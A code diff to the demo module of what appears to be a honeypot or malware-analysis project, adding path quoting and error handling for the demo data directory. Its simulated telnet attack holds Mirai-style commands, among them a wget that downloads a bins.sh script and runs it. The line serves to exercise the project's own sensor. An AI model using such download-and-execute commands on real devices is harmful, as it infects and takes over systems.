@@ -25,6 +25,7 @@ from mead.analysis.worker import Worker
 from mead.bus.publisher import Publisher
 from mead.bus.queue import WorkQueue
 from mead.clock import SystemClock
+from mead.config import quoted
 from mead.deck.embedded import Way, way_in
 from mead.deck.hub import ANALYSIS_QUEUE
 from mead.deck.layout import Layout
@@ -48,7 +49,7 @@ _MACHINES = {"arm7": (40, "<"), "mips": (8, ">"), "x86": (3, "<")}
 """e_machine and byte order by the names that loaders use (ELF specification, figure 1-4)."""
 
 _CONFIGURATION = """\
-data_dir = "{data}"
+data_dir = {data}
 
 [site]
 name = "demo"
@@ -104,17 +105,28 @@ def prepare(directory: Path) -> tuple[Settings, Path]:
     """A fresh data directory with a configuration of its own.
 
     Raises:
-        ConfigError: the directory holds something that is not an earlier demo.
+        ConfigError: the directory holds something that is not an earlier demo, or cannot be written.
     """
-    if directory.exists() and any(directory.iterdir()):
-        if not (directory / _MARK).exists():
-            raise ConfigError(f"{directory} holds something else than a demo; give --directory another one")
-        shutil.rmtree(directory)
-    directory.mkdir(mode=0o700, parents=True, exist_ok=True)
-    (directory / _MARK).touch()
+    try:
+        if directory.exists() and any(directory.iterdir()):
+            if not (directory / _MARK).exists():
+                raise ConfigError(
+                    f"{directory} holds something else than a demo; give --directory another one"
+                )
+            shutil.rmtree(directory)
+        directory.mkdir(mode=0o700, parents=True, exist_ok=True)
+        (directory / _MARK).touch()
+        return _configured(directory)
+    except OSError as error:
+        raise ConfigError(
+            f"{directory}: {error.strerror}; give --directory one that you may write"
+        ) from error
+
+
+def _configured(directory: Path) -> tuple[Settings, Path]:
     configuration = directory / "mead.toml"
     data = directory.absolute() / "data"
-    configuration.write_text(_CONFIGURATION.format(data=data, local=_LOCAL), "utf-8")
+    configuration.write_text(_CONFIGURATION.format(data=quoted(data), local=_LOCAL), "utf-8")
     settings = load_settings(configuration)
     services = {"telnet": (0,), "http": (0,)}
     sensor = msgspec.structs.replace(settings.sensor, services=services)
@@ -218,6 +230,7 @@ async def _telnet_attack(port: int, address: str) -> None:
     for line in (
         "enable", "system", "shell", "sh", "/bin/busybox MEADDEMO", "cat /proc/mounts; /bin/busybox MEADDEMO",
         f"cd /tmp || cd /var/run; wget http://{address}/bins.sh; chmod 777 bins.sh; sh bins.sh; exit",
+        "exit",
     ):  # fmt: skip
         writer.write(line.encode() + b"\r\n")
     await writer.drain()
